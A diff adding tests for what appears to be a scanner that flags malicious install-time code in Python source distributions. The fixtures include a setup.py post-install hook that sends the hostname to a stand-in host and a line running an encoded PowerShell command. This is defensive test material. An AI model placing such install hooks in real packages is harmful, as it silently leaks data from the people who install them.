@@ -99,3 +99,29 @@ print "installing"
 os.system("powershell -enc SQBFAFgA")
 """})
     assert scan(InstallTimeCode, dist).classification is Classification.MALICIOUS
+
+
+PHONE_HOME = SETUP_HEAD + """
+import getpass, socket, urllib.request
+
+class PostInstall(install):
+    def run(self):
+        install.run(self)
+        urllib.request.urlopen("https://collector.invalid/?d=" + socket.gethostname())
+
+setup(name="demo", cmdclass={"install": PostInstall})
+"""
+
+
+def test_a_wheel_marker_planted_in_an_sdist_does_not_hide_its_setup_py():
+    dist = sdist({"setup.py": PHONE_HOME, "demo.dist-info/WHEEL": "Wheel-Version: 1.0\n"})
+    verdict = scan(InstallTimeCode, dist)
+    assert verdict.classification is Classification.MALICIOUS
+    assert verdict.confidence >= 0.9
+
+
+def test_a_setup_py_behind_a_dotted_or_doubled_path_is_still_install_code():
+    for path in ("./setup.py", "/setup.py"):
+        verdict = scan(InstallTimeCode, sdist({path: PHONE_HOME}))
+        assert verdict.classification is Classification.MALICIOUS, path
+        assert verdict.confidence >= 0.9, path
